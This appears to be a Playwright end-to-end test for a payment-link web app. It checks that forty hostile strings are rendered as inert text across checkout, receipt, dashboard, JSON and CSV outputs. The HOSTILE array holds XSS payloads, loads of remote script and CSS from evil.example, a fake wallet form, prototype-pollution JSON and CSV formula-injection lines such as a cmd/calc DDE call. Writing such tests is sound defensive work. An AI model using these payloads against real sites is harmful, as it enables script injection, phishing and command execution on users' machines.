import { BASE_URL, call, claim, makeLink, newAgent, newPerson, payLink, propose } from "./support/api";
import { become, expect, expectFits, test } from "./support/test";

/** What would run, if any of it were ever taken for more than text. */
const RUN = "window.pwned=1";

const HOSTILE = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<a href="javascript:${RUN}">click</a>`,
  `[click](javascript:${RUN})`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<body onload="${RUN}">`,
  `<style>@import '//evil.example/x.css';*{display:none}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example"><input name=key><button>Connect a wallet</button></form>`,
  `<button onclick="${RUN}">Pay 0.01 USDC</button>`,
  `<math><mi xlink:href="data:x,<script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}`,
  `\${${RUN}}{{${RUN}}}<%= ${RUN} %>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;&#60;script&#62;`,
  `{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<script>${RUN}</script>"}}`,
  `=HYPERLINK("https://evil.example","Click")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1-1;=1+1\t=cmd\r\n-2+3`,
  `(abc) مرحبا 1+1=2 exe.png`,
  `שלום <b>bold</b> مرحبا`,
  `a\u0301\u0302\u0303\u0304\u0305\u0306`.repeat(40),
  "\u00a0\u2003\u3000",
  "A".repeat(1000),
  `${"W".repeat(300) + "\n".repeat(200)}end`,
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}".repeat(140),
];

test("forty hostile texts are shown as text in pages, JSON and CSV", { tag: "@once" }, async ({ page }) => {
  test.setTimeout(180_000);
  expect(HOSTILE).toHaveLength(40);
  const owner = await newPerson();
  const agent = await newAgent(`<img src=x onerror="${RUN}"> =1+1`);
  await claim(owner, await propose(agent));
  const links: { linkId: string; url: string; said: string }[] = [];
  for (const message of HOSTILE) {
    const link = await makeLink(agent, { description: message, resourceContent: message });
    links.push({ ...link, said: message });
  }
  const asJson = async (path: string, status = 200) =>
    JSON.stringify(await call("GET", path, { jwt: agent.jwt, headers: { Accept: "application/json" } }, status));
  const isClean = async () => {
    expect(await page.evaluate(() => ["pwned" in window, "pwned" in {}])).toEqual([false, false]);
    expect(new URL(page.url()).origin).toBe(new URL(BASE_URL).origin);
    await expect(page.locator("main").locator("iframe, script, style, base, meta, form[action*=evil]")).toHaveCount(0);
    await expect(page.locator("main img")).toHaveCount(0);
  };

  await test.step("the checkout and its 402 contain the texts as text", async () => {
    for (const { linkId, url, said } of links) {
      await page.goto(url, { waitUntil: "domcontentloaded" });
      const quoted = page.getByRole("region", { name: "What you pay for" }).getByRole("blockquote");
      // HTML has one kind of line break.
      expect(await quoted.evaluate((node) => node.textContent)).toBe(said.replace(/\r\n?/g, "\n"));
      await isClean();
      await expectFits(page);
      expect(await asJson(`/api/payment-links/${linkId}`)).toContain(JSON.stringify(said));
      expect(await asJson(`/pay/${linkId}`, 402)).toContain(JSON.stringify(said));
    }
  });

  await test.step("the receipt shows the texts as bought content", async () => {
    for (const link of links.filter((_, index) => index % 8 === 0)) {
      const { contentUrl } = await payLink(link);
      await page.goto(contentUrl);
      await expect(page.getByRole("heading", { level: 2, name: "What you bought" })).toBeVisible();
      await isClean();
      await expectFits(page);
    }
  });

  await test.step("every page of the owner shows the texts as text", async () => {
    await become(page, owner);
    const [first] = links;
    if (!first) throw new Error("there are no links");
    for (const path of [
      "/dashboard",
      "/dashboard/links",
      `/dashboard/links/${first.linkId}`,
      `/dashboard/links/${first.linkId}/edit`,
      "/dashboard/payments?side=received",
      "/dashboard/activity",
    ]) {
      await page.goto(path);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
      await isClean();
      await expectFits(page);
    }
  });

  await test.step("the CSV contains the texts, and no cell begins a formula", async () => {
    for (const path of ["/api/received-payments.csv", "/api/activity.csv"]) {
      const csv = await (await fetch(new URL(path, BASE_URL), { headers: { Cookie: owner.cookie } })).text();
      expect(csv).toContain("onerror");
      const cells = csv.replace(/^\ufeff/, "").matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
      expect([...cells].map(([, quoted, bare]) => quoted ?? bare ?? "").filter((cell) => /^[=+@-]/.test(cell))).toEqual(
        [],
      );
    }
  });

  await test.step("texts that cannot be displayed at all are refused", async () => {
    const createLink = async (json: object, status: number) =>
      call("POST", "/api/payment-links", { jwt: agent.jwt, json: { amount: "1", ...json } }, status);
    await createLink({ description: "a\u0000b" }, 400);
    await createLink({ resourceContent: "\ud800" }, 400);
    await createLink({ description: "x".repeat(1001) }, 400);
    await createLink({ resourceContent: "x".repeat(40_000) }, 400);
    await createLink({ resourceContent: "x".repeat(100_000) }, 400);
    await createLink({ resourceContent: "x".repeat(300_000) }, 413);
    await createLink({ redirectUrl: `javascript:${RUN}` }, 400);
  });
});
